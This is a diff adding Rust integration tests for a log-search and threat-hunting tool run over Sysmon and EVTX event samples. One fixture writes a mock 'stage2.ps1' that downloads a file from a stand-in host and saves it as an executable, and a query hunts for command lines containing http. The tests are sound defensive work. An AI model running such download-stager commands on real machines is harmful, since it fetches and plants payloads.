@@ -164,3 +164,97 @@ fn missing_input_path_is_a_usage_error() {
     assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
     assert!(stderr(&o).contains("no/such/dir"), "{}", stderr(&o));
 }
+
+/// Raw-event results say where each event was read: `source_file` and `record` (the line of a
+/// text file, the EventRecordID of an EVTX record); an aggregate drops them unless grouped by.
+#[test]
+fn raw_event_results_carry_file_and_record() {
+    let o = vigil(&["search", "--format", "jsonl", "`sysmon` EventCode=1 CommandLine=*http*", "samples/sysmon_msiexec.xml"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let rows: Vec<serde_json::Value> = stdout(&o).lines().map(|l| serde_json::from_str(l).expect("json line")).collect();
+    assert!(!rows.is_empty());
+    let text = std::fs::read_to_string(repo().join("samples/sysmon_msiexec.xml")).expect("sample");
+    for r in &rows {
+        let r = &r["result"];
+        assert_eq!(r["source_file"], "samples/sysmon_msiexec.xml");
+        let line: usize = r["record"].as_str().and_then(|s| s.parse().ok()).expect("record number");
+        assert_eq!(text.lines().nth(line - 1), r["_raw"].as_str(), "record {line} is the event's line");
+    }
+    // `_time` is rendered as Splunk's exports write it, in --tz.
+    let o = vigil(&["search", "--format", "csv", "--tz", "Europe/Paris", "`sysmon` EventCode=1 | sort _time | head 1 | table _time", "samples/sysmon_msiexec.xml"]);
+    assert_eq!(stdout(&o), "detection,_time\nsearch,2026-11-20T11:15:01.123+01:00\n", "{}", stderr(&o));
+    let o = vigil(&["search", "--format", "jsonl", "`sysmon` | stats count by EventCode", "samples/sysmon_msiexec.xml"]);
+    assert!(!stdout(&o).contains("source_file"), "{}", stdout(&o));
+
+    let Some(shared) = shared() else {
+        eprintln!("skipped: ../shared/data/real not present");
+        return;
+    };
+    let evtx = shared.join("data/real/evtx/sysmon.evtx");
+    let o = vigil(&["search", "--format", "jsonl", "EventCode=1 | head 3 | table source_file record EventRecordID", evtx.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let rows: Vec<serde_json::Value> = stdout(&o).lines().map(|l| serde_json::from_str(l).expect("json line")).collect();
+    assert_eq!(rows.len(), 3);
+    for r in &rows {
+        let r = &r["result"];
+        assert!(r["source_file"].as_str().is_some_and(|f| f.ends_with("sysmon.evtx")), "{r}");
+        assert_eq!(r["record"], r["EventRecordID"], "{r}");
+    }
+}
+
+/// Files that are not logs are recognised by content and skipped with one line; an empty file
+/// is named; a time range says how many events fell before and after it.
+#[test]
+fn non_logs_and_empty_files_are_reported() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let sample = std::fs::read(repo().join("samples/sysmon_msiexec.xml")).expect("sample");
+    std::fs::write(dir.path().join("sysmon.log"), &sample).expect("write");
+    std::fs::write(dir.path().join("shot.dat"), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0").expect("write");
+    std::fs::write(dir.path().join("capture.bin"), b"\xd4\xc3\xb2\xa1\x02\0\x04\0\0\0\0\0").expect("write");
+    std::fs::write(dir.path().join("stage2.ps1"), "$u = 'http://x/a'\nInvoke-WebRequest $u -OutFile a.exe\n").expect("write");
+    std::fs::write(dir.path().join("empty.log"), "").expect("write");
+    let path = dir.path().to_string_lossy().into_owned();
+    let o = vigil(&["hunt", &path]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let err = stderr(&o);
+    assert!(err.contains("3 files not read, not logs (image: 1, packet capture: 1, text without events: 1)"), "{err}");
+    assert!(err.contains("1 file with no events (empty or zero records):") && err.contains("empty.log"), "{err}");
+    assert!(err.contains("0 skipped; 1 detection run, 2 results"), "{err}");
+    let o = vigil(&["hunt", "--earliest", "2026-11-20T10:16:00Z", "--latest", "2026-11-20T10:19:00Z", &path]);
+    let err = stderr(&o);
+    assert!(err.contains("6 events outside it (1 before, 5 at or after)"), "{err}");
+    assert!(err.contains("the events span 2026-11-20T10:15:01"), "{err}");
+}
+
+/// `replay` of an EVTX file writes XML lines that read back as the same events, shifted.
+#[test]
+fn replay_writes_evtx_as_xml_lines() {
+    let Some(shared) = shared() else {
+        eprintln!("skipped: ../shared/data/real not present");
+        return;
+    };
+    let evtx = shared.join("data/real/evtx/sysmon.evtx");
+    let dir = tempfile::tempdir().expect("temp dir");
+    let out = dir.path().join("sysmon.log");
+    let o = vigil(&[
+        "replay",
+        evtx.to_str().unwrap(),
+        "--source",
+        "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
+        "--sourcetype",
+        "XmlWinEventLog",
+        "--shift-to",
+        "2026-01-31T12:00:00Z",
+        "-o",
+        out.to_str().unwrap(),
+    ]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let count = |p: &str| {
+        let o = vigil(&["search", "--format", "csv", "EventCode=1 | stats count max(_time) as latest", p]);
+        stdout(&o).lines().nth(1).unwrap_or_default().to_string()
+    };
+    let original = count(evtx.to_str().unwrap());
+    let replayed = count(out.to_str().unwrap());
+    assert_eq!(original.split(',').nth(1), replayed.split(',').nth(1), "same events");
+    assert!(replayed.ends_with(",1769860800"), "{replayed}");
+}
